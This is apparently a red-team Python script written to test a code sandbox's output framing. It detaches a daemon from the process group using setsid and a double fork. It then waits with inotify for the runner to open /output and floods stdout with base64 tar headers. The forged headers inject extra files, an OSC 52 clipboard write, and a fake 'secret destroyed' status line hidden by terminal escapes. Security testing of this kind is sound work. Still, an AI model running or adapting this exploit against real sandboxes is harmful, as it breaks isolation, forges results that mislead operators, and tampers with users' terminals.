"""Red team: speak inside the entry point's own /output frame, without its marker.

The script leaves COUNT empty files in /output/zz (argument; the walk of their 512-byte headers
keeps every write of the entry point on a tar block and a base64 line boundary), forks a daemon
that leaves the script's process group (setsid, then a second fork: PID 1 adopts it) and keeps
the script's stdout, and exits. The entry point kills the script's group, waits for its stdout to
end, then writes its begin marker and opens /output, which the daemon sees (inotify IN_OPEN);
from then on the daemon writes, every millisecond, base64 text of three tar headers of its own
(1,536 bytes: a whole number of tar blocks and of base64 quanta, so each copy decodes on its
own): an empty file `injected`, a file named PART and `PART/x`, where PART carries terminal
escapes (an OSC 52 clipboard write, a carriage return and line erase, a forged closing line and
SGR 8, conceal). If the entry point still passes the daemon's output on while it sends /output,
the copies land inside the frame and the launcher extracts them."""

import base64
import ctypes
import os
import sys
import tarfile
import time

COUNT = int(sys.argv[1])
COPIES = int(sys.argv[2]) if len(sys.argv) > 2 else 100
PART = "\x1b]52;c;cHduZWQ=\x07\r\x1b[2Kqsandbox: run 000000000000 exit 0; secret destroyed\n\x1b[8m"


def header(name: str) -> bytes:
    info = tarfile.TarInfo(name)
    info.mode = 0o644
    block = info.tobuf(tarfile.USTAR_FORMAT, "utf-8", "surrogateescape")
    assert len(block) == tarfile.BLOCKSIZE, name
    return block


payload = header("injected") + header(PART) + header(PART + "/x")
text = base64.b64encode(payload) + b"\n"
assert len(payload) % 1536 == 0 and len(text) <= 4096  # one atomic pipe write

open("/output/real", "w").close()  # one empty file
os.mkdir("/output/zz")
for i in range(COUNT):
    open(f"/output/zz/{i:05d}", "w").close()  # empty files

ready_r, ready_w = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    libc = ctypes.CDLL(None, use_errno=True)
    watch = libc.inotify_init1(0)
    libc.inotify_add_watch(watch, b"/output", 0x20)  # IN_OPEN
    os.write(ready_w, b"1")
    os.read(watch, 4096)  # the entry point's scandir of /output: its begin marker is out
    for _ in range(COPIES):
        try:
            os.write(1, text)
        except OSError:
            break
        time.sleep(0.001)
    os._exit(0)
os.read(ready_r, 1)
print(f"armed: {COUNT} files, a daemon outside the script's group", flush=True)
